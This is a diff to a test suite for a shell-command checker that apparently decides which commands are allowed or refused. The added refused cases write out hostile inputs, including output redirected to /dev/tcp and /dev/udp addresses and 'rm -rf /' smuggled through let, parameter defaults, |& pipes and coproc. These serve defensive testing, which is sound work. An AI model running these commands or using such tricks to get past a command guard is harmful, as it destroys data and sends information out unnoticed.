@@ -13,6 +13,7 @@ describe("allowed commands", () => {
     "git log --oneline | git hash-object --stdin",
     "git commit -m 'fix; rm -rf / && $(not run) `not run`'",
     "git log -n 3 > notes.txt",
+    "git log 2>&1 | git hash-object --stdin",
     "npm test",
     "g\\it status",
     "git",
@@ -56,6 +57,13 @@ describe("refused commands", () => {
     ['"$(echo rm)" -rf /', /program name is computed|"echo rm"/],
     ["$'\\x72\\x6d' -rf /", /program name is computed/],
     ['git status "', /cannot be checked/],
+    ["git log > /dev/tcp/203.0.113.1/80", /opens a network connection through \/dev\/tcp\/203.0.113.1\/80/],
+    ["git log 2>/dev/udp/203.0.113.1/53", /network connection/],
+    ['git log > "$OUT"', /redirection target is computed/],
+    ["let x=$(rm -rf /)", /"rm -rf \/"/],
+    ["git log ${X:-$(rm -rf /)}", /"rm -rf \/"/],
+    ["git status |& rm -rf /", /"rm -rf \/"/],
+    ["coproc rm -rf /", /"coproc rm -rf \/"/],
   ])("%s", async (command, reason) => {
     const refusal = await verdict(command);
     expect(refusal).toMatch(/^Command refused: /);
